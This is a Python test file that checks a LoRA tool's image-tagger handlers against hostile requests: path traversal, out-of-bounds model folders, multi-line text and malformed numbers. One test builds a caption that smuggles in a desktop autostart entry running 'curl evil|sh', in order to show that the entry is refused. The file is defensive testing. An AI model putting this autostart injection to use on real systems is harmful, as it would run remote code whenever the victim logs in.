"""The tagger tab's handlers, called as a hostile page would call them (any value, not only what the
widgets offer): every path inside the configured folders, allowed caption extensions, one-line text."""

import os

import pytest
from PIL import Image

from lib_lora.tagger.model import unload_all
from lib_lora.ui import tagger_tab as tab
from lib_lora.ui.context import UiContext
from tests.tagger_models import make_model_dir

OPTS = [0.35, 0.85, False, False, True, False, "confidence", True, False, "none", 0, "", "", "", "", "", False]


@pytest.fixture
def env(tmp_path):
    models = make_model_dir(tmp_path / "TM" / "tiny", "v3").parent
    data = tmp_path / "datasets"
    (data / "set1").mkdir(parents=True)
    Image.new("RGB", (16, 16), (255, 0, 0)).save(data / "set1" / "a.png")
    outside = tmp_path / "home"
    (outside / ".config" / "autostart").mkdir(parents=True)
    Image.new("RGB", (16, 16), (255, 0, 0)).save(outside / "b.png")
    make_model_dir(outside / "evil-model", "v3")
    ctx = UiContext(lora_dirs=[tmp_path / "lora"], checkpoint_dirs=[], tagger_models_dir=models)
    ctx.image_dirs = [data]
    yield ctx, data, outside
    unload_all()


def run(ctx, folder, model="tiny", model_folder="", ext=".txt", out="", opts=OPTS, existing="skip"):
    return list(tab.run_folder_ui(ctx, model, model_folder, "auto", False, str(folder), False, existing, ext, out, 0,
                                  False, False, *opts))


def files(root):
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def error_of(out):
    assert len(out) == 1 and out[0][0].startswith("**Error:** "), out
    assert "\n" not in out[0][0] and "Traceback" not in out[0][0]
    return out[0][0]


def test_the_drive_by_autostart_entry_is_refused(env):
    ctx, data, outside = env
    before = files(outside)
    opts = OPTS[:12] + ["x\n[Desktop Entry]\nExec=sh -c 'curl evil|sh'", ""]
    msg = error_of(run(ctx, data / "set1", ext=".desktop", out=str(outside / ".config" / "autostart"), opts=opts))
    assert "outside the configured folders" in msg or "extension" in msg or "line break" in msg
    for kw in (dict(ext=".desktop"), dict(out=str(outside / ".config" / "autostart")), dict(opts=opts)):
        error_of(run(ctx, data / "set1", **kw))
    assert files(outside) == before and files(data) == ["set1/a.png"]


@pytest.mark.parametrize("folder", ["{outside}", "{outside}/b.png", "{data}/../home", "{data}/set1/../../home",
                                    "/", "~", "../home"])
def test_input_folder_must_be_inside_the_configured_folders(env, folder):
    ctx, data, outside = env
    msg = error_of(run(ctx, folder.format(outside=outside, data=data)))
    assert "configured folders" in msg or "'..'" in msg
    assert not (outside / "b.txt").exists()


def test_output_folder_must_be_inside_too_and_inside_is_created(env):
    ctx, data, outside = env
    msg = error_of(run(ctx, data / "set1", out=str(outside / "caps")))
    assert "Output folder" in msg and not (outside / "caps").exists()
    error_of(run(ctx, data / "set1", out=str(data / ".." / "home" / "caps")))
    out = run(ctx, data / "set1", out=str(data / "caps"))
    assert out[-1][0].startswith("**Done:** 1 images tagged") and (data / "caps" / "a.txt").is_file()


def test_a_link_the_user_placed_inside_is_followed(env, tmp_path):
    ctx, data, outside = env
    os.symlink(outside, data / "linked")
    out = run(ctx, data / "linked")
    assert out[-1][0].startswith("**Done:** 1 images tagged") and (outside / "b.txt").is_file()


@pytest.mark.parametrize("model,folder", [("tiny", "{outside}/evil-model"), ("tiny", "{models}/../home/evil-model"),
                                          ("../home/evil-model", ""), ("{outside}/evil-model", ""),
                                          ("/etc", ""), ("~", "")])
def test_model_folder_must_be_inside_the_models_folder(env, model, folder):
    ctx, data, outside = env
    fmt = dict(outside=outside, models=ctx.tagger_models_dir)
    msg = error_of(run(ctx, data / "set1", model=model.format(**fmt), model_folder=folder.format(**fmt)))
    assert "not a model name" in msg or "configured folders" in msg or "'..'" in msg
    assert not (data / "set1" / "a.txt").exists()
    cap, _, _, _, status = tab.tag_single(ctx, Image.new("RGB", (8, 8)), model.format(**fmt), folder.format(**fmt),
                                          "auto", False, *OPTS)
    assert cap == "" and status.startswith("**Error:** ")


def test_single_image_refuses_multi_line_added_text(env):
    ctx, data, outside = env
    opts = OPTS[:12] + ["trigger\nsecond line", ""]
    cap, _, _, _, status = tab.tag_single(ctx, Image.new("RGB", (8, 8)), "tiny", "", "auto", False, *opts)
    assert cap == "" and "line break" in status


def test_download_box_is_off_and_says_why_where_writes_are_disabled(env, tmp_path):
    """With --listen (no --allow-writes) downloads cannot happen: the box is not offered ticked, and a
    request that ticks it anyway gets the reason, not a bare "downloads are off"."""
    import gradio as gr
    ctx, data, outside = env
    ctx.writes_allowed = False
    with gr.Blocks() as demo:
        tab.build(ctx)
    box = next(b for b in demo.blocks.values() if getattr(b, "elem_id", None) == "lora_studio_tagger_download")
    assert box.value is False and box.interactive is False and "disabled" in box.label
    caption, *_, status = tab.tag_single(ctx, Image.new("RGB", (8, 8)), "wd-vit-tagger-v3", "", "cpu", True, *OPTS)
    assert status.startswith("**Error:**") and "not on this computer" in status and "--allow-writes" in status
    assert "\n" not in status and not (ctx.tagger_models_dir / "wd-vit-tagger-v3").exists()


def test_provider_list_offers_only_what_this_onnxruntime_has():
    import onnxruntime as ort
    from lib_lora.tagger import runtime
    have = set(ort.get_available_providers())
    choices = tab.provider_choices()
    assert choices[:2] == ["auto", "cpu"]
    assert all(runtime.PROVIDERS[c] in have for c in choices[1:])
    if "CUDAExecutionProvider" not in have:            # the CPU build of this test machine
        assert "cuda" not in choices and "rocm" not in choices and "openvino" not in choices


def test_status_shows_what_is_loaded_for_a_page_opened_later(env):
    ctx, data, outside = env
    unload_all()
    assert tab.current_status() == "No model loaded."
    out = run(ctx, data / "set1")
    assert out[-1][0].startswith("**Done:**")
    assert tab.current_status().startswith("Loaded: tiny (local folder)")
    tab.unload()
    assert tab.current_status() == "No model loaded."


@pytest.mark.parametrize("batch, opts, words", [
    (-5, OPTS, "batch size -5 must be 0 (auto) to 256"),
    (10 ** 9, OPTS, "batch size 1000000000 must be 0 (auto) to 256"),
    ("abc", OPTS, "batch size 'abc' is not a number"),
    (2.5, OPTS, "batch size '2.5' is not a whole number"),
    (0, ["x"] + OPTS[1:], "general threshold 'x' is not a number"),
    (0, OPTS[:10] + ["nan"] + OPTS[11:], "max tags 'nan' is not a whole number"),
    (0, OPTS[:10] + [-3] + OPTS[11:], "max tags -3 must be 0"),
])
def test_numbers_from_a_request_are_checked_before_anything_runs(env, batch, opts, words):
    """A request may carry any value where the page sends a number: one line, nothing written or loaded
    (a batch of 10^9 would decode the whole folder into memory)."""
    ctx, data, outside = env
    unload_all()
    out = list(tab.run_folder_ui(ctx, "tiny", "", "auto", False, str(data / "set1"), False, "overwrite", ".txt", "",
                                 batch, False, False, *opts))
    assert words in error_of(out) and files(data) == ["set1/a.png"]
    assert tab.current_status() == "No model loaded."
